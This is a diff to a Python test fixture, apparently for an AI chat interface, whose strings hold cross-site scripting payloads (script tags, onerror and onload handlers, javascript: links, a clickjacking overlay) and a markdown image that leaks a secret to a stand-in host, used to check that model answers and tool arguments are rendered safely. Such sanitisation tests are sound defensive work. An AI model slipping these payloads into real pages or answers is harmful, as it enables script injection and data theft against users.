@@ -48,16 +48,16 @@ HOSTILE_ANSWER = (
     "Here you go: <script>window.__pwned = 'answer-script'; alert(2)</script>\n\n"
     "<img src=x onerror=\"window.__pwned='answer-img'; alert(3)\">\n\n"
     "[a link](javascript:alert(4)) and [another](JaVaScRiPt:alert(5)) and "
-    '<a href="javascript:alert(6)" id=injected-link>raw link</a>\n\n'
-    '<iframe src="javascript:alert(7)"></iframe><svg onload="alert(8)"></svg>'
-    '<div style="position:fixed;inset:0" id=injected-div onclick="alert(9)">overlay</div>\n\n'
+    "<a href=\"javascript:alert(6)\" id=injected-link>raw link</a>\n\n"
+    "<iframe src=\"javascript:alert(7)\"></iframe><svg onload=\"alert(8)\"></svg>"
+    "<div style=\"position:fixed;inset:0\" id=injected-div onclick=\"alert(9)\">overlay</div>\n\n"
     "![pixel](https://example.invalid/leak?secret=1)\n\n"
     "```python\nprint('<script>alert(10)</script>')\n```\n"
 )
 
 TOOL_ARGUMENTS = (
     '{"query": "SELECT 1", "note": "<img src=x onerror=\\"window.__pwned=\'args\'\\">'
-    "<script>window.__pwned='args-script'</script>\"}"
+    '<script>window.__pwned=\'args-script\'</script>"}'
 )
 
 _PIECES = re.compile(r"\d|[A-Za-z]+|\s+|[^A-Za-z\d\s]")
